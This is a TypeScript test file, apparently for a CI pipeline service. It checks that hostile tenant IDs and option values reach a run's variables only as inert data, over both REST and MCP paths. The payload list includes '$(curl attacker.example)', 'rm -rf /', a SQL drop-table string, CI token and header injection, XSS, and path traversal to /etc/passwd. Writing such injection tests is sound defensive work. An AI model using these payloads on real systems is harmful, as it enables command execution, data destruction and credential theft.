import { expect } from 'vitest';
import type { Seen } from '../support/answer.ts';
import type { Probe } from '../support/probe.ts';
import { startBy, type Way } from '../support/violation.ts';
import type { World } from '../support/world.ts';

/** What would do something if anybody put it into a script, a header, a file of variables or a template. */
const VALUES = [
  '$(curl attacker.example)',
  '`id`',
  '\u0024{CI_JOB_TOKEN}',
  '$CI_JOB_TOKEN',
  'a\nCI_JOB_TOKEN=stolen',
  'a\r\nPRIVATE-TOKEN: stolen',
  '"; rm -rf / #',
  "'; drop table executions; --",
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  'SLUICE_EXECUTION_ID=execution-0',
  '--force',
  '\u202egpj.exe',
  '__proto__',
  'CI_JOB_TOKEN',
] as const;

/** What a run gets besides its parameters, and nothing else. */
const OWN_VARIABLES = ['ENVIRONMENT', 'PIPELINE_TYPE', 'SLUICE_EXECUTION_ID'];

function valueProbe(value: string): Probe {
  const check = (seen: Seen, { executor }: World): void => {
    expect(seen.refusal).toBeUndefined();
    expect(executor.starts).toHaveLength(1);
    const [start] = executor.starts;
    const variables = start?.variables ?? {};
    expect(Object.keys(variables).toSorted()).toEqual([...OWN_VARIABLES, 'OPTIONS', 'TENANT_ID'].toSorted());
    expect(variables).toMatchObject({
      PIPELINE_TYPE: 'app',
      ENVIRONMENT: 'dev',
      SLUICE_EXECUTION_ID: start?.executionId,
    });
    expect(variables['TENANT_ID']).toBe(value);
    expect(JSON.parse(variables['OPTIONS'] ?? '')).toEqual({ [value]: value });
  };
  const options = { [value]: value };
  const changes = (way: Way): Record<string, unknown> =>
    way === 'REST' ? { tenant_id: value, parameters: { options } } : { tenant_id: value, options };
  return {
    name: `the value ${JSON.stringify(value)}`,
    ways: {
      REST: { request: () => startBy('REST', 'team', changes('REST')), check },
      MCP: { request: () => startBy('MCP', 'team', changes('MCP')), check },
    },
  };
}

/** Values that reach the run as they are: data, never a part of anything. */
export const VALUE_PROBES: readonly Probe[] = VALUES.filter((value) => value !== '__proto__').map(valueProbe);
